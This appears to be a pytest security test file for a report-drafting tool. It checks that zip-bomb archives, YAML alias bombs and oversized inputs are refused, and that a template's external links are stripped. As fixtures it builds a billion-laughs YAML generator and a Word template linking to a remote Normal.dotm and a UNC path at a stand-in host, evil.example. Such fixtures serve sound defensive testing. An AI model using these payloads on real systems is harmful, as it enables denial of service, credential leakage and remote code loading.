"""Issue 20, findings 3 and 5: size limits on archives (5W workbooks, templates, existing drafts)
and on report.yaml (alias bombs, size), each a coded error naming the limit, exit 2, no
traceback, nothing written, little memory; a template's external links never reach a draft."""
from __future__ import annotations

import shutil
import time
import tracemalloc
import zipfile
from pathlib import Path

import docx
import pytest

from attacks.attack_helpers import EN, ES, SAMPLE, claim_size, draft, part, rewrite
from nlg.word import assemble

MIB = 1 << 20


@pytest.fixture()
def report(tmp_path) -> Path:
    shutil.copytree(SAMPLE, tmp_path / "peru")
    return tmp_path / "peru"


def run(report: Path, capsys, *extra: str) -> tuple[int, str, float]:
    """Return (exit code, stderr, peak traced MiB) of drafting ``report``."""
    tracemalloc.start()
    try:
        code = draft(report.parent / "out", *extra, folder=report)
        peak = tracemalloc.get_traced_memory()[1] / MIB
    finally:
        tracemalloc.stop()
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, err, peak


def nothing_written(report: Path) -> None:
    out = report.parent / "out"
    assert not out.exists() or not list(out.glob("*.docx"))


def test_xlsx_sheet_compressed_like_a_bomb(report, capsys):
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' \
            + b" " * (16 * MIB) + b"</sheetData></worksheet>"
    rewrite(report / "5w.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    code, err, peak = run(report, capsys)
    assert code == 2
    assert "5w.xlsx: [E230] refused: its part xl/worksheets/sheet1.xml is compressed" in err
    assert "(the limit is 500 to 1): a zip bomb or a damaged file" in err
    assert peak < 100
    nothing_written(report)


def test_xlsx_claiming_gigabytes_is_refused_from_its_directory(report, capsys):
    claim_size(report / "5w.xlsx", "xl/worksheets/sheet1.xml", 4_000 * MIB)
    code, err, peak = run(report, capsys)
    assert code == 2
    assert "[E230] refused: its part xl/worksheets/sheet1.xml inflates to 4,000 MiB " \
           "(the limit is 3,072 MiB for a worksheet)" in err
    assert peak < 100
    nothing_written(report)


def test_xlsx_other_part_claiming_more_than_256_mib_is_refused(report, capsys):
    claim_size(report / "5w.xlsx", "xl/styles.xml", 300 * MIB)
    code, err, peak = run(report, capsys)
    assert code == 2
    assert "[E230] refused: its part xl/styles.xml inflates to 300 MiB " \
           "(the limit is 256 MiB per part)" in err
    assert peak < 100


def test_a_worksheet_of_a_million_rows_passes_the_limits():
    """A worksheet is streamed (issue 19): the 1,000,000-row export's sheet (1,408 MiB, about
    10 to 1) passes; its size is not counted in the total; a sheet compressed 600 to 1 does not."""
    from nlg.archive import limit_problem

    class Info:
        def __init__(self, name, size, packed):
            self.filename, self.file_size, self.compress_size = name, size, packed

    class Archive:
        def __init__(self, *infos):
            self.infos = infos

        def infolist(self):
            return list(self.infos)

    sheet = Info("xl/worksheets/sheet1.xml", 1_408 * MIB, 138 * MIB)
    assert limit_problem(Archive(sheet, Info("xl/styles.xml", 3000, 600))) is None
    bomb = Info("xl/worksheets/sheet1.xml", 1_200 * MIB, 2 * MIB)
    assert "compressed 600 to 1 (the limit is 500 to 1): a zip bomb" in limit_problem(Archive(bomb))
    big = Info("xl/media/image1.png", 300 * MIB, 290 * MIB)
    assert "(the limit is 256 MiB per part)" in limit_problem(Archive(sheet, big))


def test_xlsx_with_too_many_parts(report, capsys):
    rewrite(report / "5w.xlsx", {f"xl/x/{i}.xml": b"" for i in range(10_001)})
    code, err, _ = run(report, capsys)
    assert code == 2 and "[E230] refused: it holds 10,0" in err and "(the limit is 10,000)" in err


def test_an_existing_output_that_is_a_bomb_is_kept_not_read(report, capsys, drafted):
    out = report.parent / "out"
    shutil.copytree(drafted, out)
    claim_size(out / EN, "word/document.xml", 3_000 * MIB)
    bomb = (out / EN).read_bytes()
    code, err, peak = run(report, capsys)
    assert code == 2 and "[E510]" in err and peak < 100
    assert (out / EN).read_bytes() == bomb
    code, err, peak = run(report, capsys, "--force")
    assert code == 0 and peak < 200
    assert (out / "PER_2023-11_en.edited-1.docx").read_bytes() == bomb


def test_template_bomb(report, tmp_path, capsys):
    template = tmp_path / "org.docx"
    shutil.copy(assemble.DEFAULT_TEMPLATE, template)
    claim_size(template, "word/styles.xml", 2_000 * MIB)
    code, err, peak = run(report, capsys, "--template", str(template))
    assert code == 2 and "org.docx: [E562] refused: its part word/styles.xml inflates to 2,000 MiB" in err
    assert peak < 100
    nothing_written(report)


ALIAS_BOMB = "\n".join(['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'] + [
    f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)])


@pytest.mark.parametrize("text, message", [
    (ALIAS_BOMB, "[E190] report.yaml is refused: it expands to more than 100,000 values"),
    ("style: &s [*s]\n", "[E190] report.yaml is refused"),
    ("x: " + "[" * 10_000 + "]" * 10_000 + "\n", "[E104] invalid YAML"),
])
def test_yaml_bombs(report, capsys, text, message):
    path = report / "report.yaml"
    path.write_text(path.read_text(encoding="utf-8") + text + "\n", encoding="utf-8")
    start = time.perf_counter()
    code, err, peak = run(report, capsys)
    assert code == 2 and message in err
    assert time.perf_counter() - start < 3 and peak < 100
    nothing_written(report)


def test_report_yaml_of_megabytes(report, capsys):
    path = report / "report.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "# padding\n" * 200_000, encoding="utf-8")
    code, err, _ = run(report, capsys)
    assert code == 2 and "[E191] report.yaml is larger than 1,024 KiB (the limit)" in err


def _linked_template(path: Path) -> Path:
    shutil.copy(assemble.DEFAULT_TEMPLATE, path)
    r = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="file://evil.example/share/Normal.dotm" '
            'TargetMode="External"/></Relationships>')

    def settings(blob: bytes) -> bytes:
        return blob.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1)

    def doc_rels(blob: bytes) -> bytes:
        return blob.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.'
                            b'openxmlformats.org/officeDocument/2006/relationships/image" '
                            b'Target="\\\\evil.example\\share\\logo.png" TargetMode="External"/>'
                            b'</Relationships>')
    rewrite(path, {"word/_rels/settings.xml.rels": rels.encode(), "word/settings.xml": settings,
                   "word/_rels/document.xml.rels": doc_rels})
    assert b"attachedTemplate" in part(path, "word/settings.xml") and r
    return path


def test_template_external_links_never_reach_a_draft(report, tmp_path, capsys):
    template = _linked_template(tmp_path / "org.docx")
    code, err, _ = run(report, capsys, "--template", str(template))
    assert code == 0
    assert "[W230] the template's external links were left out of the drafts (2:" in err
    out = report.parent / "out"
    for name in (EN, ES):
        with zipfile.ZipFile(out / name) as archive:
            for member in archive.namelist():
                blob = archive.read(member)
                assert b"evil.example" not in blob, member
                assert b'TargetMode="External"' not in blob or b"hyperlink" in blob, member
            assert b"attachedTemplate" not in archive.read("word/settings.xml")
        docx.Document(str(out / name))              # still a valid document


def test_alias_bomb_in_a_user_phrasebank(report, tmp_path, capsys):
    words = tmp_path / "words"
    (words / "en").mkdir(parents=True)
    (words / "en" / "sentences.yaml").write_text(ALIAS_BOMB + "\nRE-FS1:\n  main: *a9\n",
                                                 encoding="utf-8")
    start = time.perf_counter()
    code, err, peak = run(report, capsys, "--phrasebanks", str(words))
    assert code == 2 and "sentences.yaml: [E302] invalid YAML: expands to more than 100,000" in err
    assert time.perf_counter() - start < 3 and peak < 100
    from nlg.lint.yamlcheck import read
    found = read(words / "en" / "sentences.yaml", "sentences.yaml")      # lint's reader too
    assert found.data is None and found.problems[0].code == "E302"


def test_an_existing_qa_workbook_that_is_a_bomb_is_kept_not_read(report, capsys, drafted):
    from attacks.attack_helpers import QA

    out = report.parent / "out"
    shutil.copytree(drafted, out)
    claim_size(out / QA, "xl/worksheets/sheet1.xml", 3_000 * MIB)
    bomb = (out / QA).read_bytes()
    code, err, peak = run(report, capsys)
    assert code == 0 and peak < 100
    assert (out / "PER_2023-11_qa.edited-1.xlsx").read_bytes() == bomb
